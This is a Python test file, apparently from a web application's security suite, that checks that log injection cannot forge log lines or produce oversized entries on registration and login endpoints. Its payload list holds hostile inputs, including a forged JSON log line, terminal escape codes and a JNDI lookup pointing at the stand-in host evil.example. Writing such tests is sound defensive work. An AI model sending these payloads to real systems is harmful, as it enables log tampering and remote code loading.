"""O: log injection."""

from tests.registration.helpers import unused_ip
from tests.security.checks import AttackChecker
from tests.support.users import bearer, forwarded_for, registration_form

PAYLOADS = (
    'x"} \n{"event":"forged","level":"info"}',
    "\x1b[2J\x1b[31m",
    "\u2028\u0085\u202e",
    "%0d%0a{}",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__} %(password)s %n",
    "\x00\x07\x7f",
    "y" * 10**6,
)


def send_payloads_everywhere(checker: AttackChecker) -> None:
    for payload in PAYLOADS:
        header = payload.replace("\n", " ").replace("\r", " ").encode().decode("latin-1")
        headers = {
            "User-Agent": header,
            "X-Request-ID": header,
            "Referer": header,
            "Accept-Language": header[:9000],
        }
        body = {**registration_form(email=payload), "first_name": payload, "password": payload}
        for path in ("/auth/register", "/auth/login", f"/{payload[:50]}"):
            checker.client.post(
                path, json=body, headers={**headers, **forwarded_for(unused_ip())}, query_string={"x": payload[:999]}
            )
        checker.client.open("/hello", method=payload[:40].replace("\n", ""), headers=headers)
        checker.client.get(
            "/users/profile", headers={**forwarded_for(payload[:50].replace("\n", "")), **bearer(header)}
        )


def test_o01_log_injection_cannot_forge_lines(checker: AttackChecker) -> None:
    send_payloads_everywhere(checker)  # a first run: memory that the allocator keeps is not a leak
    with checker.expect_only(hashes=0):
        send_payloads_everywhere(checker)
        assert checker.log_capture.events_named("forged") == []
        assert max(map(len, checker.log_capture.getvalue().split("\n"))) < 4000


def test_o01_user_agent_log_injection_is_escaped(checker: AttackChecker) -> None:
    user = checker.create_user()
    with checker.expect_only(events={"sign_in_failed"}, hashes=len(PAYLOADS)):
        for payload in PAYLOADS:
            agent = payload.replace("\n", " ").encode().decode("latin-1")
            headers = {"User-Agent": agent, **forwarded_for(unused_ip())}
            body = {"email": user.email, "password": "not the password"}
            assert checker.client.post("/auth/login", json=body, headers=headers).status_code in {401, 429}
